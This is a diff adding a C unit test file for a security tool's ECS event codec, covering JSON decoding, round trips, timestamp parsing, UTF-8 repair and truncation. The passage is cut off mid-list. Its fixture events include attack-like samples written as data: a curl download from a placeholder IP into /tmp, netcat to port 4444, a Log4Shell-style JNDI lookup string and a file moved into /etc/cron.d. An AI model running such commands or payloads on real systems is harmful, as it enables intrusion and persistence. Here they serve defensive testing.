@@ -1,0 +1,792 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/*
+ * ECS codec: Event JSONL decoding, encoding, round trips, UTF-8 repair,
+ * truncation accounting, malformed-line reporting and the alert shape.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "kestrel/ecs.h"
+
+#define SPEC_LINE \
+	"{\"@timestamp\":\"2026-01-02T03:04:05.000000001Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"pid\":4242,\"entity_id\":\"4242-1767323045\",\"name\":\"curl\",\"executable\":\"/usr/bin/curl\",\"args\":[\"curl\",\"-o\",\"/tmp/x\",\"http://203.0.113.9/x\"],\"parent\":{\"pid\":1,\"name\":\"bash\",\"executable\":\"/bin/bash\",\"entity_id\":\"1-1\"}},\"user\":{\"id\":0},\"host\":{\"name\":\"h1\"}}"
+
+/* 2026-01-02T03:04:05Z */
+#define T0 1767323045ull
+
+struct fx {
+	struct ks_ecs_ctx ctx;
+	struct ks_event ev, ev2;
+	char err[256];
+};
+
+static int setup(void **state)
+{
+	struct fx *f = calloc(1, sizeof(*f));
+
+	if (!f)
+		return -1;
+	ks_ecs_init(&f->ctx, NULL);
+	*state = f;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	struct fx *f = *state;
+
+	ks_ecs_free(&f->ctx);
+	free(f);
+	return 0;
+}
+
+/* Decode one JSON text; returns ks_ecs_from_json's result. */
+static int decode(struct fx *f, const char *text, struct ks_event *ev)
+{
+	json_error_t jerr;
+	json_t *o = json_loads(text, JSON_ALLOW_NUL, &jerr);
+	int r;
+
+	if (!o)
+		fail_msg("test JSON does not parse: %s: %s", jerr.text, text);
+	r = ks_ecs_from_json(&f->ctx, o, ev, f->err, sizeof(f->err));
+	json_decref(o);
+	return r;
+}
+
+static void decode_ok(struct fx *f, const char *text, struct ks_event *ev)
+{
+	if (decode(f, text, ev))
+		fail_msg("decode failed: %s\n  %s", f->err, text);
+}
+
+/* Compact sorted dump into a malloc'd string. */
+static char *dump(json_t *o)
+{
+	char *s = json_dumps(o, JSON_COMPACT | JSON_SORT_KEYS);
+
+	assert_non_null(s);
+	return s;
+}
+
+static void assert_ref(const struct ks_event *ev, unsigned int field,
+		       const void *want, size_t len)
+{
+	const char *p = (const char *)ev + ev->str[field].off;
+
+	assert_int_not_equal(ev->str[field].off, 0);
+	assert_int_equal(ev->str[field].len, len);
+	assert_memory_equal(p, want, len);
+}
+
+static void test_spec_example(void **state)
+{
+	struct fx *f = *state;
+	struct ks_event *ev = &f->ev;
+	static const char args[] = "curl\0-o\0/tmp/x\0http://203.0.113.9/x";
+
+	decode_ok(f, SPEC_LINE, ev);
+	assert_int_equal(ev->ts_ns, T0 * 1000000000ull + 1);
+	assert_int_equal(ev->category, KS_CAT_PROCESS);
+	assert_int_equal(ev->action, KS_ACT_EXEC);
+	assert_int_equal(ev->source, KS_SRC_REPLAY);
+	assert_int_equal(ev->present, KS_P_PROCESS | KS_P_PARENT | KS_P_USER);
+	assert_int_equal(ev->pid, 4242);
+	assert_int_equal(ev->start_ns, 1767323045ull);
+	assert_int_equal(ev->entity, KS_ENTITY_KEY(4242, 1767323045ull));
+	assert_int_equal(ev->ppid, 1);
+	assert_int_equal(ev->parent_entity, KS_ENTITY_KEY(1, 1));
+	assert_int_equal(ev->parent_start_ns, 1);
+	assert_int_equal(ev->uid, 0);
+	assert_ref(ev, KS_F_PROCESS_EXECUTABLE, "/usr/bin/curl", 13);
+	/* process.name is the basename view of the executable */
+	assert_ref(ev, KS_F_PROCESS_NAME, "curl", 4);
+	assert_int_equal(ev->str[KS_F_PROCESS_NAME].off,
+			 offsetof(struct ks_event, exe) + 9);
+	assert_ref(ev, KS_F_PROCESS_ARGS, args, sizeof(args) - 1);
+	assert_int_equal(ev->str[KS_F_PROCESS_ARGS].off,
+			 offsetof(struct ks_event, args));
+	assert_memory_equal(&ev->str[KS_F_PROCESS_COMMAND_LINE],
+			    &ev->str[KS_F_PROCESS_ARGS], sizeof(struct ks_strref));
+	assert_int_equal(ev->args_count, 4);
+	assert_ref(ev, KS_F_PARENT_EXECUTABLE, "/bin/bash", 9);
+	assert_ref(ev, KS_F_PARENT_NAME, "bash", 4);
+	assert_int_equal(ev->str[KS_F_PARENT_NAME].off,
+			 offsetof(struct ks_event, pexe) + 5);
+	assert_int_equal(ev->truncated, 0);
+	assert_string_equal(f->ctx.host, "h1");
+	assert_int_equal(f->ctx.stats.events, 1);
+}
+
+static void test_name_not_basename(void **state)
+{
+	struct fx *f = *state;
+	struct ks_event *ev = &f->ev;
+
+	/* busybox-style: comm is the applet name, exe the real binary */
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		  "\"process\":{\"pid\":7,\"name\":\"insmod\",\"executable\":\"/usr/bin/kmod\","
+		  "\"parent\":{\"pid\":6,\"name\":\"a-very-long-parent-name\"}}}", ev);
+	assert_ref(ev, KS_F_PROCESS_NAME, "insmod", 6);
+	assert_int_equal(ev->str[KS_F_PROCESS_NAME].off,
+			 offsetof(struct ks_event, comm));
+	assert_ref(ev, KS_F_PARENT_NAME, "a-very-long-par", 15);
+	assert_true(ev->truncated & (1u << KS_F_PARENT_NAME));
+	assert_int_equal(f->ctx.stats.truncations[KS_F_PARENT_NAME], 1);
+
+	/* name absent: derived from the executable */
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		  "\"process\":{\"pid\":7,\"executable\":\"/usr/sbin/sshd\"}}", ev);
+	assert_ref(ev, KS_F_PROCESS_NAME, "sshd", 4);
+}
+
+struct ts_case {
+	const char *s;
+	int ok;
+	uint64_t ns;
+};
+
+static void test_timestamps(void **state)
+{
+	static const struct ts_case cases[] = {
+		{ "2026-01-02T03:04:05Z", 1, T0 * 1000000000ull },
+		{ "2026-01-02T03:04:05.1Z", 1, T0 * 1000000000ull + 100000000 },
+		{ "2026-01-02T03:04:05.12Z", 1, T0 * 1000000000ull + 120000000 },
+		{ "2026-01-02T03:04:05.123Z", 1, T0 * 1000000000ull + 123000000 },
+		{ "2026-01-02T03:04:05.1234Z", 1, T0 * 1000000000ull + 123400000 },
+		{ "2026-01-02T03:04:05.12345Z", 1, T0 * 1000000000ull + 123450000 },
+		{ "2026-01-02T03:04:05.123456Z", 1, T0 * 1000000000ull + 123456000 },
+		{ "2026-01-02T03:04:05.1234567Z", 1, T0 * 1000000000ull + 123456700 },
+		{ "2026-01-02T03:04:05.12345678Z", 1, T0 * 1000000000ull + 123456780 },
+		{ "2026-01-02T03:04:05.123456789Z", 1, T0 * 1000000000ull + 123456789 },
+		{ "2026-01-02t03:04:05.5z", 1, T0 * 1000000000ull + 500000000 },
+		{ "2026-01-02T03:04:05+00:00", 1, T0 * 1000000000ull },
+		{ "2026-01-02T03:04:05-00:00", 1, T0 * 1000000000ull },
+		{ "2026-01-02T04:04:05.25+01:00", 1, T0 * 1000000000ull + 250000000 },
+		{ "2026-01-01T21:34:05-05:30", 1, T0 * 1000000000ull },
+		{ "1970-01-01T00:00:00Z", 1, 0 },
+		{ "2024-02-29T00:00:00Z", 1, 1709164800ull * 1000000000ull },
+		{ "2026-01-02T03:04:05.1234567890Z", 0, 0 },	/* 10 digits */
+		{ "2026-01-02T03:04:05.Z", 0, 0 },
+		{ "2026-01-02T03:04:05", 0, 0 },		/* no zone */
+		{ "2026-01-02 03:04:05Z", 0, 0 },
+		{ "2026-02-29T00:00:00Z", 0, 0 },
+		{ "2026-13-01T00:00:00Z", 0, 0 },
+		{ "2026-01-02T24:00:00Z", 0, 0 },
+		{ "2026-01-02T03:04:05+24:00", 0, 0 },
+		{ "2026-01-02T03:04:05+0100", 0, 0 },
+		{ "1969-12-31T23:59:59Z", 0, 0 },		/* before epoch */
+		{ "1970-01-01T00:30:00+01:00", 0, 0 },
+		{ "2600-01-01T00:00:00Z", 0, 0 },		/* u64 ns overflow */
+		{ "2026-01-02T03:04:05Zjunk", 0, 0 },
+	};
+	uint64_t ns;
+	size_t i;
+	int r;
+
+	(void)state;
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		r = ks_ecs_parse_time(cases[i].s, strlen(cases[i].s), &ns);
+		if (cases[i].ok && r)
+			fail_msg("%s: rejected", cases[i].s);
+		if (!cases[i].ok && !r)
+			fail_msg("%s: accepted", cases[i].s);
+		if (cases[i].ok && ns != cases[i].ns)
+			fail_msg("%s: %llu != %llu", cases[i].s,
+				 (unsigned long long)ns,
+				 (unsigned long long)cases[i].ns);
+	}
+}
+
+static void test_format_time(void **state)
+{
+	char buf[KS_ECS_TIME_LEN];
+	uint64_t ns;
+
+	(void)state;
+	ks_ecs_format_time(0, buf);
+	assert_string_equal(buf, "1970-01-01T00:00:00.000000000Z");
+	ks_ecs_format_time(T0 * 1000000000ull + 1, buf);
+	assert_string_equal(buf, "2026-01-02T03:04:05.000000001Z");
+	ks_ecs_format_time(1709251199999999999ull, buf);
+	assert_string_equal(buf, "2024-02-29T23:59:59.999999999Z");
+	/* every parse result formats back to itself */
+	for (ns = 1; ns < 4000000000ull * 1000000000ull;
+	     ns = ns * 7 + 123456789) {
+		uint64_t back;
+
+		ks_ecs_format_time(ns, buf);
+		assert_int_equal(ks_ecs_parse_time(buf, strlen(buf), &back), 0);
+		assert_int_equal(back, ns);
+	}
+}
+
+/* from_json(to_json(ev)) == ev, and the JSON text is stable. */
+static void roundtrip(struct fx *f, const char *text)
+{
+	char *s1, *s2;
+	json_t *j;
+
+	decode_ok(f, text, &f->ev);
+	j = ks_ecs_to_json(&f->ctx, &f->ev);
+	assert_non_null(j);
+	s1 = dump(j);
+	if (ks_ecs_from_json(&f->ctx, j, &f->ev2, f->err, sizeof(f->err)))
+		fail_msg("re-decode failed: %s\n  %s", f->err, s1);
+	json_decref(j);
+	if (memcmp(&f->ev, &f->ev2, sizeof(f->ev)))
+		fail_msg("round trip differs:\n  in:  %s\n  out: %s", text, s1);
+	j = ks_ecs_to_json(&f->ctx, &f->ev2);
+	s2 = dump(j);
+	assert_string_equal(s1, s2);
+	json_decref(j);
+	free(s1);
+	free(s2);
+}
+
+static void test_roundtrip(void **state)
+{
+	static const char *const events[] = {
+		SPEC_LINE,
+		"{\"@timestamp\":\"2026-01-02T03:04:05.5Z\",\"event\":{\"category\":\"process\",\"action\":\"exit\"},"
+		"\"process\":{\"pid\":9,\"entity_id\":\"9-77\",\"name\":\"sleep\",\"executable\":\"/bin/sleep\",\"exit_code\":-9,"
+		"\"args\":[\"sleep\",\"\",\"1\"]},\"user\":{\"id\":\"1000\"},\"group\":{\"id\":100}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:06Z\",\"event\":{\"category\":\"file\",\"action\":\"rename\"},"
+		"\"file\":{\"path\":\"/tmp/a.tar.gz\",\"name\":\"a.tar.gz\",\"extension\":\"tar.gz\",\"target_path\":\"/etc/cron.d/a\"},"
+		"\"process\":{\"pid\":10,\"entity_id\":\"10-5\",\"name\":\"mv\",\"executable\":\"/usr/bin/mv\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:06Z\",\"event\":{\"category\":\"file\",\"action\":\"open\"},"
+		"\"file\":{\"path\":\"/root/.bashrc\"},\"process\":{\"pid\":10,\"entity_id\":\"10-5\",\"name\":\"bash\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:07Z\",\"event\":{\"category\":\"network\",\"action\":\"connect\"},"
+		"\"source\":{\"ip\":\"2001:db8::1\",\"port\":40000},\"destination\":{\"ip\":\"2001:db8::2\",\"port\":443},"
+		"\"network\":{\"transport\":\"tcp\"},\"process\":{\"pid\":11,\"entity_id\":\"11-6\",\"executable\":\"/usr/bin/curl\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:07Z\",\"event\":{\"category\":\"network\",\"action\":\"connect\"},"
+		"\"source\":{\"ip\":\"::ffff:10.0.0.1\",\"port\":40000},\"destination\":{\"ip\":\"::ffff:10.0.0.2\",\"port\":22},"
+		"\"network\":{\"transport\":\"sctp\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:08.000000123Z\",\"event\":{\"category\":\"network\",\"action\":\"packet\"},"
+		"\"source\":{\"ip\":\"198.51.100.7\",\"port\":5555},\"destination\":{\"ip\":\"10.0.0.5\",\"port\":80},"
+		"\"network\":{\"transport\":\"tcp\",\"direction\":\"ingress\"},"
+		"\"observer\":{\"ingress\":{\"interface\":{\"name\":\"veth0\",\"id\":7}}},"
+		"\"payload\":\"GET /?x=${jndi:ldap://e/a} HTTP/1.1\\r\\n\\u0000\\u00e9\"}",
+		"{\"@timestamp\":\"2026-01-02T03:04:09Z\",\"event\":{\"category\":\"network\",\"action\":\"packet\"},"
+		"\"source\":{\"ip\":\"0.0.0.0\"},\"destination\":{\"ip\":\"255.255.255.255\",\"port\":67},\"network\":{\"transport\":\"udp\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:09Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		"\"process\":{\"pid\":12,\"entity_id\":\"12-8\",\"command_line\":\"sh -c  echo  hi \",\"executable\":\"/bin/sh\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:09Z\",\"event\":{\"category\":\"process\",\"action\":\"fork\"},"
+		"\"process\":{\"entity_id\":\"container://abc/99\",\"parent\":{\"entity_id\":\"{\\\"odd\\\": 1}\"}}}",
+	};
+	struct fx *f = *state;
+	size_t i;
+
+	for (i = 0; i < sizeof(events) / sizeof(events[0]); i++)
+		roundtrip(f, events[i]);
+	assert_int_equal(ks_ecs_truncations_total(&f->ctx), 0);
+}
+
+/* process.entity_id as printed after decoding text. */
+static void entity_out(struct fx *f, const char *text, const char *want,
+		       const char *want_parent)
+{
+	json_t *j, *p;
+
+	decode_ok(f, text, &f->ev);
+	j = ks_ecs_to_json(&f->ctx, &f->ev);
+	p = json_object_get(j, "process");
+	assert_string_equal(json_string_value(json_object_get(p, "entity_id")),
+			    want);
+	if (want_parent)
+		assert_string_equal(json_string_value(json_object_get(
+			json_object_get(p, "parent"), "entity_id")), want_parent);
+	json_decref(j);
+}
+
+static void test_entity_ids(void **state)
+{
+	struct fx *f = *state;
+	char buf[64];
+
+	/* canonical: no intern entry needed */
+	entity_out(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		   "\"process\":{\"pid\":5,\"entity_id\":\"5-18446744073709551615\",\"parent\":{\"pid\":1,\"entity_id\":\"1-1\"}}}",
+		   "5-18446744073709551615", "1-1");
+	assert_int_equal(f->ev.start_ns, 18446744073709551615ull);
+	assert_int_equal(f->ctx.n_ents, 0);
+
+	/* pid taken from the id when absent */
+	entity_out(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		   "\"process\":{\"entity_id\":\"77-1000\"}}", "77-1000", NULL);
+	assert_int_equal(f->ev.pid, 77);
+	assert_int_equal(f->ctx.n_ents, 0);
+
+	/* opaque strings and non-canonical digit forms print back as given */
+	entity_out(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		   "\"process\":{\"pid\":5,\"entity_id\":\"0005-10\",\"parent\":{\"pid\":1,\"entity_id\":\"9-9\"}}}",
+		   "0005-10", "9-9");
+	assert_int_equal(f->ev.entity, KS_ENTITY_KEY(5, 10));
+	entity_out(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		   "\"process\":{\"pid\":5,\"entity_id\":\"Y2Fmw6k=\",\"parent\":{\"entity_id\":\"4294967296-1\"}}}",
+		   "Y2Fmw6k=", "4294967296-1");
+	assert_int_equal(f->ev.start_ns, 0);
+	assert_int_not_equal(f->ev.entity, 0);
+	/* "0005-10", "9-9" (pid 1), "Y2Fmw6k=", "4294967296-1" (pid > u32) */
+	assert_int_equal(f->ctx.n_ents, 4);
+	assert_true(ks_ecs_field_text(&f->ctx, &f->ev, KS_F_ENTITY_ID, buf,
+				      sizeof(buf)) == 8);
+	assert_string_equal(buf, "Y2Fmw6k=");
+	/* a short buffer gets the cut text and its real length */
+	assert_int_equal(ks_ecs_field_text(&f->ctx, &f->ev, KS_F_ENTITY_ID, buf,
+					   4), 3);
+	assert_string_equal(buf, "Y2F");
+	assert_int_equal(ks_ecs_field_text(&f->ctx, &f->ev, KS_F_PROCESS_PID,
+					   buf, 2), 1);
+	assert_int_equal(ks_ecs_field_text(&f->ctx, &f->ev, KS_F_PROCESS_PID,
+					   buf, 0), -1);
+	assert_int_equal(ks_ecs_field_text(&f->ctx, &f->ev, KS_F_PARENT_ENTITY_ID,
+					   buf, sizeof(buf)), 12);
+	assert_string_equal(buf, "4294967296-1");
+
+	/* many ids: the table grows and keeps every mapping */
+	for (int i = 0; i < 500; i++) {
+		char text[256], want[32];
+
+		snprintf(want, sizeof(want), "ent-%d", i);
+		snprintf(text, sizeof(text), "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+			 "\"process\":{\"pid\":5,\"entity_id\":\"%s\"}}", want);
+		entity_out(f, text, want, NULL);
+	}
+	entity_out(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		   "\"process\":{\"pid\":5,\"entity_id\":\"ent-3\"}}", "ent-3", NULL);
+}
+
+struct u8_case {
+	const char *in;
+	size_t len;
+	const char *out;
+	size_t outlen;
+};
+
+#define U8(i, o) { i, sizeof(i) - 1, o, sizeof(o) - 1 }
+#define R "\xef\xbf\xbd"
+
+static void test_utf8(void **state)
+{
+	static const struct u8_case cases[] = {
+		U8("plain ascii", "plain ascii"),
+		U8("\xe2\x82\xac\xf0\x9f\x98\x80\xc3\xa9", "\xe2\x82\xac\xf0\x9f\x98\x80\xc3\xa9"),
+		U8("a\0b", "a\0b"),				/* NUL kept */
+		U8("\xf4\x8f\xbf\xbf", "\xf4\x8f\xbf\xbf"),	/* U+10FFFF */
+		/* overlongs */
+		U8("\xc0\xaf", R R),
+		U8("\xc1\xbf", R R),
+		U8("\xe0\x80\xaf", R R R),
+		U8("\xf0\x80\x80\xaf", R R R R),
+		/* surrogates */
+		U8("\xed\xa0\x80", R R R),
+		U8("\xed\xbf\xbf", R R R),
+		/* above U+10FFFF, and bytes that never occur */
+		U8("\xf4\x90\x80\x80", R R R R),
+		U8("\xf5\xff\xfe", R R R),
+		/* truncated sequences: one U+FFFD per maximal subpart */
+		U8("x\xe2\x82", "x" R),
+		U8("\xf0\x9f\x98" "A", R "A"),
+		U8("\xe2\x82\xe2\x82\xac", R "\xe2\x82\xac"),
+		U8("\xc3", R),
+		/* lone continuation bytes */
+		U8("\x80", R),
+		U8("a\x80\xbf" "b", "a" R R "b"),
+		/* Unicode 15 Table 3-8 */
+		U8("\x61\xf1\x80\x80\xe1\x80\xc2\x62\x80\x63\x80\xbf\x64",
+		   "a" R R R "b" R "c" R R "d"),
+	};
+	char out[64];
+	size_t i, n;
+
+	(void)state;
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		n = ks_utf8_sanitize(cases[i].in, cases[i].len, out);
+		if (n != cases[i].outlen || memcmp(out, cases[i].out, n))
+			fail_msg("case %zu: wrong output (%zu bytes)", i, n);
+		assert_int_equal(ks_utf8_valid(cases[i].in, cases[i].len),
+				 cases[i].len == cases[i].outlen &&
+				 !memcmp(cases[i].in, cases[i].out, n));
+		assert_true(ks_utf8_valid(out, n));
+	}
+}
+
+/* Raw bytes in slots still give valid JSON with U+FFFD and \u0000. */
+static void test_json_from_bad_bytes(void **state)
+{
+	struct fx *f = *state;
+	struct ks_event *ev = &f->ev;
+	char *s;
+	json_t *j;
+
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"packet\"},"
+		  "\"payload\":\"abcdef\",\"process\":{\"pid\":1,\"executable\":\"/tmp/abc\"}}", ev);
+	memcpy(ev->payload, "a\0\xff\xc0\xaf" "f", 6);
+	memcpy(ev->exe + 5, "\xed\xa0\x80", 3);
+	j = ks_ecs_to_json(&f->ctx, ev);
+	assert_non_null(j);
+	s = dump(j);
+	assert_non_null(strstr(s, "\"payload\":\"a\\u0000" R R R "f\""));
+	assert_non_null(strstr(s, "\"executable\":\"/tmp/" R R R "\""));
+	free(s);
+	json_decref(j);
+}
+
+static void test_truncation(void **state)
+{
+	struct fx *f = *state;
+	struct ks_event *ev = &f->ev;
+	char *text, big[2000], args[1400];
+	size_t i, n;
+
+	memset(big, 'p', sizeof(big));
+	big[0] = '/';
+	big[sizeof(big) - 1] = '\0';
+	/* 100 elements "aaaaa" = 599 bytes joined: cut at 511 */
+	for (i = 0, n = 0; i < 100; i++)
+		n += (size_t)sprintf(args + n, "%s\"aaaaa\"", i ? "," : "");
+	assert_true(asprintf(&text,
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"file\",\"action\":\"open\"},"
+		"\"process\":{\"pid\":1,\"executable\":\"%.300s\",\"args\":[%s],\"name\":\"x\"},"
+		"\"file\":{\"path\":\"%s\"},\"observer\":{\"ingress\":{\"interface\":{\"name\":\"veryverylongifname0\"}}},"
+		"\"payload\":\"%s\"}", big, args, big, big) > 0);
+	decode_ok(f, text, ev);
+	free(text);
+
+	assert_int_equal(ev->str[KS_F_PROCESS_EXECUTABLE].len, KS_PATH_MAX - 1);
+	assert_int_equal(ev->exe[KS_PATH_MAX - 1], '\0');
+	assert_int_equal(ev->str[KS_F_FILE_PATH].len, KS_PATH_MAX - 1);
+	assert_int_equal(ev->str[KS_F_PROCESS_ARGS].len, KS_ARGS_MAX - 1);
+	assert_int_equal(ev->args_count, 100);
+	assert_int_equal(ev->str[KS_F_IFACE_NAME].len, KS_IFNAME_MAX - 1);
+	assert_int_equal(ev->str[KS_F_PAYLOAD].len, KS_PAYLOAD_MAX);
+	assert_int_equal(ev->truncated,
+			 (1u << KS_F_PROCESS_EXECUTABLE) | (1u << KS_F_FILE_PATH) |
+			 (1u << KS_F_PROCESS_ARGS) | (1u << KS_F_PROCESS_COMMAND_LINE) |
+			 (1u << KS_F_IFACE_NAME) | (1u << KS_F_PAYLOAD));
+	assert_int_equal(f->ctx.stats.truncations[KS_F_PROCESS_EXECUTABLE], 1);
+	assert_int_equal(f->ctx.stats.truncations[KS_F_PROCESS_ARGS], 1);
+	assert_int_equal(f->ctx.stats.truncations[KS_F_PROCESS_COMMAND_LINE], 0);
+	assert_int_equal(ks_ecs_truncations_total(&f->ctx), 5);
+	/* the cut never leaves a trailing separator */
+	assert_int_not_equal(ev->args[KS_ARGS_MAX - 2], '\0');
+}
+
+static void test_args_cut_at_separator(void **state)
+{
+	struct fx *f = *state;
+	struct ks_event *ev = &f->ev;
+	char *text, a[KS_ARGS_MAX];
+	json_t *j, *arr;
+
+	/* first element fills all but one byte: no room for a second */
+	memset(a, 'a', KS_ARGS_MAX - 2);
+	a[KS_ARGS_MAX - 2] = '\0';
+	assert_true(asprintf(&text,
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		"\"process\":{\"pid\":1,\"args\":[\"%s\",\"b\"]}}", a) > 0);
+	decode_ok(f, text, ev);
+	free(text);
+	assert_int_equal(ev->str[KS_F_PROCESS_ARGS].len, KS_ARGS_MAX - 2);
+	assert_int_equal(ev->args_count, 2);
+	assert_true(ev->truncated & (1u << KS_F_PROCESS_ARGS));
+	j = ks_ecs_to_json(&f->ctx, ev);
+	arr = json_object_get(json_object_get(j, "process"), "args");
+	assert_int_equal(json_array_size(arr), 1);
+	json_decref(j);
+}
+
+static void test_fields(void **state)
+{
+	struct fx *f = *state;
+	struct ks_event *ev = &f->ev;
+	static const uint8_t v4[16] = { [10] = 0xff, [11] = 0xff, 203, 0, 113, 9 };
+	char buf[64];
+
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"connect\"},"
+		  "\"source\":{\"ip\":\"10.1.2.3\",\"port\":\"40000\"},\"destination\":{\"ip\":\"203.0.113.9\",\"port\":4444},"
+		  "\"network\":{\"transport\":\"TCP\",\"direction\":\"egress\"},\"user\":{\"id\":\"1000\"},"
+		  "\"process\":{\"pid\":3,\"executable\":\"/usr/bin/nc.openbsd\",\"name\":\"nc\"}}", ev);
+	assert_int_equal(ev->family, 4);
+	assert_memory_equal(ev->daddr, v4, 16);
+	assert_int_equal(ev->sport, 40000);
+	assert_int_equal(ev->dport, 4444);
+	assert_int_equal(ev->transport, 6);
+	assert_int_equal(ev->direction, 2);
+	assert_int_equal(ev->uid, 1000);
+	assert_int_equal(ev->present, KS_P_NET | KS_P_USER | KS_P_PROCESS);
+	assert_int_equal(ks_ecs_field_text(&f->ctx, ev, KS_F_DEST_IP, buf,
+					   sizeof(buf)), 11);
+	assert_string_equal(buf, "203.0.113.9");
+	ks_ecs_field_text(&f->ctx, ev, KS_F_DEST_PORT, buf, sizeof(buf));
+	assert_string_equal(buf, "4444");
+	ks_ecs_field_text(&f->ctx, ev, KS_F_PROCESS_NAME, buf, sizeof(buf));
+	assert_string_equal(buf, "nc");
+	assert_int_equal(ks_ecs_field_text(&f->ctx, ev, KS_F_FILE_PATH, buf,
+					   sizeof(buf)), -1);
+	assert_int_equal(ks_ecs_field_text(&f->ctx, ev, KS_F_EXIT_CODE, buf,
+					   sizeof(buf)), -1);
+
+	/* file.name always the path's basename; extension given or derived */
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"file\",\"action\":\"creation\"},"
+		  "\"file\":{\"path\":\"/tmp/x.tar.gz\",\"name\":\"wrong\",\"extension\":\"tar.gz\"}}", ev);
+	assert_ref(ev, KS_F_FILE_NAME, "x.tar.gz", 8);
+	assert_ref(ev, KS_F_FILE_EXTENSION, "tar.gz", 6);
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"file\",\"action\":\"creation\"},"
+		  "\"file\":{\"path\":\"/tmp/x.tar.gz\",\"extension\":\"zip\"}}", ev);
+	assert_ref(ev, KS_F_FILE_EXTENSION, "gz", 2);
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"file\",\"action\":\"creation\"},"
+		  "\"file\":{\"path\":\"/root/.bashrc\"}}", ev);
+	assert_ref(ev, KS_F_FILE_NAME, ".bashrc", 7);
+	assert_int_equal(ev->str[KS_F_FILE_EXTENSION].len, 0);
+
+	/* command_line only: split at every space */
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},"
+		  "\"process\":{\"command_line\":\"sh -c  id\"}}", ev);
+	assert_ref(ev, KS_F_PROCESS_ARGS, "sh\0-c\0\0id", 9);
+	assert_int_equal(ev->args_count, 4);
+
+	/* payload as base64 keeps arbitrary bytes */
+	decode_ok(f, "{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"packet\"},"
+		  "\"payload\":{\"base64\":\"/wBhYg==\"}}", ev);
+	assert_ref(ev, KS_F_PAYLOAD, "\xff\0ab", 4);
+	assert_int_equal(ev->present, KS_P_PAYLOAD);
+}
+
+static void test_rejects(void **state)
+{
+	static const char *const bad[] = {
+		"{\"event\":{\"category\":\"process\",\"action\":\"exec\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"proc\",\"action\":\"exec\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"open\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"pid\":-1}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"pid\":\"12a\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"args\":\"ls\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"args\":[\"a\",1]}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"process\",\"action\":\"exec\"},\"process\":{\"executable\":\"/bin/a\\u0000b\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"connect\"},\"destination\":{\"port\":65536}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"connect\"},\"destination\":{\"ip\":\"10.0.0.256\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"connect\"},\"source\":{\"ip\":\"10.0.0.1\"},\"destination\":{\"ip\":\"::1\"}}",
+		"{\"@timestamp\":\"2026-01-02T03:04:05Z\",\"event\":{\"category\":\"network\",\"action\":\"connect\"},\"network\":{\"transport\":\"quic\"}}",
